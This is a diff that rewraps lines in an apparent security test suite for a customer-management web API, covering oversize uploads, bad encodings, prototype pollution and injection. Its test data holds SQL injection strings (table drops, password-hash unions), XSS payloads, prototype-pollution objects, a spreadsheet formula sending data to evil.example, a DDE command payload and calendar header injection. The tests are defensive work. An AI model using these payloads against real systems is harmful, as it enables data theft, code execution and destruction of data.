@@ -45,7 +45,12 @@ async function stillHealthy() {
 describe('oversize bodies', () => {
   it('a JSON body over 1 MB is 413, on create and on update', async () => {
     await unchanged(t.db, async () => {
-      const big = JSON.stringify({ name: 'x', industry: 'y', region: 'z', products: Array.from({ length: 12_000 }, (_, i) => `product-${i}-${'p'.repeat(80)}`) });
+      const big = JSON.stringify({
+        name: 'x',
+        industry: 'y',
+        region: 'z',
+        products: Array.from({ length: 12_000 }, (_, i) => `product-${i}-${'p'.repeat(80)}`),
+      });
       expect(big.length).toBeGreaterThan(1024 * 1024);
       refused(await raw('POST', '/api/accounts', big, 'application/json'), 413);
       refused(await raw('PATCH', `/api/accounts/${accountId}`, JSON.stringify({ name: 'n'.repeat(1_100_000) }), 'application/json'), 413);
@@ -56,7 +61,17 @@ describe('oversize bodies', () => {
   });
 
   it('a multipart upload over its 5 MB limit is 413 (import and ticket attachment)', async () => {
-    const ticket = expectStatus(await admin.post('/api/tickets', { accountId, title: '附件测试', description: '上传过大的附件', kind: 'product_issue', severity: 'low', channel: 'phone' }), 201);
+    const ticket = expectStatus(
+      await admin.post('/api/tickets', {
+        accountId,
+        title: '附件测试',
+        description: '上传过大的附件',
+        kind: 'product_issue',
+        severity: 'low',
+        channel: 'phone',
+      }),
+      201,
+    );
     await unchanged(t.db, async () => {
       const file = Buffer.alloc(5 * 1024 * 1024 + 10, 0x41);
       const csv = multipart('file', 'accounts.csv', 'text/csv', file);
@@ -118,12 +133,27 @@ describe('bad encodings', () => {
   const withBytes = (...parts: (string | number[])[]) => Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p) : Buffer.from(p))));
   it('invalid UTF-8 in a JSON body is a 400, not stored as replacement characters', async () => {
     await unchanged(t.db, async () => {
-      for (const bad of [[0xff, 0xfe], [0xc3, 0x28], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xe2, 0x82]]) {
+      for (const bad of [
+        [0xff, 0xfe],
+        [0xc3, 0x28],
+        [0xc0, 0xaf],
+        [0xed, 0xa0, 0x80],
+        [0xf8, 0x88, 0x80, 0x80, 0x80],
+        [0xe2, 0x82],
+      ]) {
         refused(await raw('POST', '/api/accounts', withBytes('{"name":"坏', bad, '","industry":"b","region":"c"}'), 'application/json'), 400, 'body');
       }
     });
     // a BOM or valid multi-byte text is fine
-    const ok = expectStatus(await raw('POST', '/api/accounts', withBytes([0xef, 0xbb, 0xbf], JSON.stringify({ name: '好客户-𠮷', industry: '制造', region: '华东' })), 'application/json'), 201);
+    const ok = expectStatus(
+      await raw(
+        'POST',
+        '/api/accounts',
+        withBytes([0xef, 0xbb, 0xbf], JSON.stringify({ name: '好客户-𠮷', industry: '制造', region: '华东' })),
+        'application/json',
+      ),
+      201,
+    );
     expect(ok.name).toBe('好客户-𠮷');
   });
 
@@ -162,7 +192,16 @@ describe('uploaded files', () => {
     await unchanged(t.db, async () => {
       const nul = multipart('file', 'a.csv', 'text/csv', Buffer.from(`Account name,Industry,Region\n好客户,制造,华东\n坏\u0000客户,制造,华东\n`));
       refused(await raw('POST', '/api/accounts/import', nul.payload, nul.contentType), [400, 413]);
-      const bytes = multipart('file', 'b.csv', 'text/csv', Buffer.concat([Buffer.from('Account name,Industry,Region\n好客户2,制造,华东\n'), Buffer.from([0xff, 0xfe, 0x2c]), Buffer.from('制造,华东\n')]));
+      const bytes = multipart(
+        'file',
+        'b.csv',
+        'text/csv',
+        Buffer.concat([
+          Buffer.from('Account name,Industry,Region\n好客户2,制造,华东\n'),
+          Buffer.from([0xff, 0xfe, 0x2c]),
+          Buffer.from('制造,华东\n'),
+        ]),
+      );
       const res = await raw('POST', '/api/accounts/import', bytes.payload, bytes.contentType);
       expect(res.statusCode, res.body).toBeLessThan(500);
       if (res.statusCode === 200) throw new Error(`imported a file with invalid UTF-8: ${res.body}`);
@@ -175,11 +214,7 @@ describe('uploaded files', () => {
 });
 
 describe('prototype pollution', () => {
-  const poison = [
-    '{"__proto__": {"isAdmin": true}}',
-    '{"constructor": {"prototype": {"isAdmin": true}}}',
-    '{"\\u005f_proto__": {"isAdmin": true}}',
-  ];
+  const poison = ['{"__proto__": {"isAdmin": true}}', '{"constructor": {"prototype": {"isAdmin": true}}}', '{"\\u005f_proto__": {"isAdmin": true}}'];
   const merge = (base: Json, p: string) => `${JSON.stringify(base).slice(0, -1)},${p.slice(1)}`;
 
   it("fastify's poisoning guard is on: onProtoPoisoning and onConstructorPoisoning are 'error'", () => {
@@ -195,8 +230,21 @@ describe('prototype pollution', () => {
         refused(await raw('POST', '/api/accounts', `{"name":"x","industry":"a","region":"b","contracts":[${p}]}`, 'application/json'), 400, 'body');
         // record-typed JSON fields: KPI weights, health weights, a formula's parameter values
         refused(await raw('PUT', '/api/kpi/settings', `{"restrictPersonal":false,"weights":{"csm":${p}}}`, 'application/json'), 400, 'body');
-        refused(await raw('PUT', '/api/health/models', `{"scope":"workspace","weights":${p},"amberBelow":60,"redBelow":40}`, 'application/json'), 400, 'body');
-        refused(await raw('POST', `/api/accounts/${accountId}/value/items`, `{"indicatorId":"00000000-0000-4000-8000-000000000000","paramValues":${p}}`, 'application/json'), 400, 'body');
+        refused(
+          await raw('PUT', '/api/health/models', `{"scope":"workspace","weights":${p},"amberBelow":60,"redBelow":40}`, 'application/json'),
+          400,
+          'body',
+        );
+        refused(
+          await raw(
+            'POST',
+            `/api/accounts/${accountId}/value/items`,
+            `{"indicatorId":"00000000-0000-4000-8000-000000000000","paramValues":${p}}`,
+            'application/json',
+          ),
+          400,
+          'body',
+        );
       }
     });
     expect(({} as Json).isAdmin).toBeUndefined();
@@ -206,7 +254,11 @@ describe('prototype pollution', () => {
 
   it('"constructor" or "prototype" as a plain key is an unknown field (400 naming it), and pollutes nothing', async () => {
     await unchanged(t.db, async () => {
-      refused(await raw('POST', '/api/accounts', merge({ name: uniq(), industry: 'a', region: 'b' }, '{"constructor": {"name": "x"}}'), 'application/json'), 400, 'constructor');
+      refused(
+        await raw('POST', '/api/accounts', merge({ name: uniq(), industry: 'a', region: 'b' }, '{"constructor": {"name": "x"}}'), 'application/json'),
+        400,
+        'constructor',
+      );
       refused(await raw('PATCH', `/api/accounts/${accountId}`, '{"prototype": {"isAdmin": true}}', 'application/json'), 400, 'prototype');
       refused(await raw('PATCH', `/api/accounts/${accountId}`, '{"isAdmin": true, "role": "admin"}', 'application/json'), 400, /isAdmin|role/);
     });
@@ -331,7 +383,16 @@ describe('unknown sort and filter fields', () => {
 });
 
 describe('injection payloads are data', () => {
-  const sqlPayloads = ["' or 1=1 --", "%' union select password_hash, email from users --", "'; drop table accounts; --", "\\' or \\'1\\'=\\'1", '%', '_', '\\', "1') or ('1'='1"];
+  const sqlPayloads = [
+    "' or 1=1 --",
+    "%' union select password_hash, email from users --",
+    "'; drop table accounts; --",
+    "\\' or \\'1\\'=\\'1",
+    '%',
+    '_',
+    '\\',
+    "1') or ('1'='1",
+  ];
 
   it('SQL in search and filter values matches nothing extra and leaks nothing', async () => {
     const total = expectStatus(await admin.get('/api/accounts?pageSize=200'), 200).total;
@@ -339,13 +400,27 @@ describe('injection payloads are data', () => {
     await unchanged(t.db, async () => {
       for (const p of sqlPayloads) {
         const e = encodeURIComponent(p);
-        for (const url of [`/api/accounts?q=${e}`, `/api/accounts?industry=${e}`, `/api/accounts?region=${e}`, `/api/accounts?tag=${e}`, `/api/tickets?queue=all&q=${e}`, `/api/audit?entityType=${e}`, `/api/accounts/export?q=${e}`]) {
+        for (const url of [
+          `/api/accounts?q=${e}`,
+          `/api/accounts?industry=${e}`,
+          `/api/accounts?region=${e}`,
+          `/api/accounts?tag=${e}`,
+          `/api/tickets?queue=all&q=${e}`,
+          `/api/audit?entityType=${e}`,
+          `/api/accounts/export?q=${e}`,
+        ]) {
           const res = await admin.get(url);
           expect(res.statusCode, `${url}: ${res.body.slice(0, 300)}`).toBe(200);
           expect(res.body).not.toMatch(LEAK);
           if (url.startsWith('/api/accounts?')) expect(res.json().total, url).toBe(0);
           if (url.startsWith('/api/tickets?')) expect(res.json().total, url).toBe(0);
-          if (url.startsWith('/api/accounts/export')) expect(res.body.replace(/^\uFEFF/, '').trim().split(/\r?\n/)).toHaveLength(1); // the header only
+          if (url.startsWith('/api/accounts/export'))
+            expect(
+              res.body
+                .replace(/^\uFEFF/, '')
+                .trim()
+                .split(/\r?\n/),
+            ).toHaveLength(1); // the header only
         }
       }
     });
@@ -353,7 +428,13 @@ describe('injection payloads are data', () => {
   });
 
   it('SQL and HTML in text fields are stored and returned verbatim as JSON strings', async () => {
-    for (const name of ["O'Brien'; drop table accounts; --", '<script>alert(1)</script>', '<img src=x onerror=alert(document.cookie)>', '"><svg onload=alert(1)>', '{{constructor.constructor("alert(1)")()}}']) {
+    for (const name of [
+      "O'Brien'; drop table accounts; --",
+      '<script>alert(1)</script>',
+      '<img src=x onerror=alert(document.cookie)>',
+      '"><svg onload=alert(1)>',
+      '{{constructor.constructor("alert(1)")()}}',
+    ]) {
       const res = await admin.post('/api/accounts', { name, industry: "制造' --", region: '<b>华东</b>', tags: ['<i>x</i>'] });
       const a = expectStatus(res, 201);
       expect(res.headers['content-type']).toContain('application/json');
@@ -368,9 +449,13 @@ describe('injection payloads are data', () => {
   });
 
   it('portal rich text keeps no script, handler or javascript: link', async () => {
-    const html = '<p>ok</p><script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a><iframe src="https://evil.example"></iframe><p onclick="alert(1)" style="x">y</p><svg><script>alert(2)</script></svg>';
+    const html =
+      '<p>ok</p><script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a><iframe src="https://evil.example"></iframe><p onclick="alert(1)" style="x">y</p><svg><script>alert(2)</script></svg>';
     const csm = await t.as('csm');
-    const p = expectStatus(await csm.post('/api/portal-admin/posts', { kind: 'news', title: '<script>alert(1)</script>标题', bodyHtml: html, published: true }), 201);
+    const p = expectStatus(
+      await csm.post('/api/portal-admin/posts', { kind: 'news', title: '<script>alert(1)</script>标题', bodyHtml: html, published: true }),
+      201,
+    );
     expect(p.bodyHtml).not.toMatch(/<script|onerror|onclick|javascript:|<iframe|<svg|<img|style=/i);
     expect(p.bodyHtml).toContain('<p>ok</p>');
     const again = expectStatus(await csm.get('/api/portal-admin/posts'), 200).items.find((x: Json) => x.id === p.id);
@@ -379,10 +464,23 @@ describe('injection payloads are data', () => {
   });
 
   it('spreadsheet formulas in account fields are neutralised in the CSV and XLSX export', async () => {
-    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+cmd|\' /C calc\'!A0', '-1+1', '@SUM(1+1)', '=1+1', '-2', '+86 138 0000 0000'];
+    const formulas = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+      "+cmd|' /C calc'!A0",
+      '-1+1',
+      '@SUM(1+1)',
+      '=1+1',
+      '-2',
+      '+86 138 0000 0000',
+    ];
     const ids: string[] = [];
     for (const f of formulas) {
-      ids.push(expectStatus(await admin.post('/api/accounts', { name: `${f} ${uniq('f')}`, industry: f, region: '华东', tags: [f.slice(0, 40)], products: [f] }), 201).id);
+      ids.push(
+        expectStatus(
+          await admin.post('/api/accounts', { name: `${f} ${uniq('f')}`, industry: f, region: '华东', tags: [f.slice(0, 40)], products: [f] }),
+          201,
+        ).id,
+      );
     }
     const csvRes = await admin.get('/api/accounts/export?format=csv&region=华东'.replace('华东', encodeURIComponent('华东')));
     expect(csvRes.statusCode).toBe(200);
@@ -393,7 +491,11 @@ describe('injection payloads are data', () => {
     expect(cells.some((c) => c.startsWith("'-1+1"))).toBe(true);
     for (const c of cells) if (c && !/^-?\d+(\.\d+)?$/.test(c)) expect(c, `CSV cell ${c}`).not.toMatch(risky);
 
-    const xlsxRes = await t.app.inject({ method: 'GET', url: '/api/accounts/export?format=xlsx', headers: { cookie: admin.cookie, 'accept-language': 'en' } });
+    const xlsxRes = await t.app.inject({
+      method: 'GET',
+      url: '/api/accounts/export?format=xlsx',
+      headers: { cookie: admin.cookie, 'accept-language': 'en' },
+    });
     expect(xlsxRes.statusCode).toBe(200);
     const wb = new ExcelJS.Workbook();
     await wb.xlsx.load(xlsxRes.rawPayload as unknown as ArrayBuffer);
@@ -441,8 +543,14 @@ describe('calendar and mail header injection', () => {
         { name: 'Eve', email: 'eve@x.cn\r\nATTENDEE:mailto:evil3@x.cn' },
       ],
     });
-    const lines = ics.replace(/\r\n[ \t]/g, '').split(/\r\n/).filter(Boolean);
-    expect(lines.every((l) => /^[A-Z][A-Z0-9-]*[;:]/.test(l)), lines.join('\n')).toBe(true);
+    const lines = ics
+      .replace(/\r\n[ \t]/g, '')
+      .split(/\r\n/)
+      .filter(Boolean);
+    expect(
+      lines.every((l) => /^[A-Z][A-Z0-9-]*[;:]/.test(l)),
+      lines.join('\n'),
+    ).toBe(true);
     expect(lines.filter((l) => l.startsWith('ATTENDEE'))).toHaveLength(1);
     expect(lines.filter((l) => l.startsWith('BEGIN:'))).toEqual(['BEGIN:VCALENDAR', 'BEGIN:VEVENT']);
     expect(lines.some((l) => /^(X-INJECTED|TRIGGER|END:VEVENT.+)/.test(l))).toBe(false);
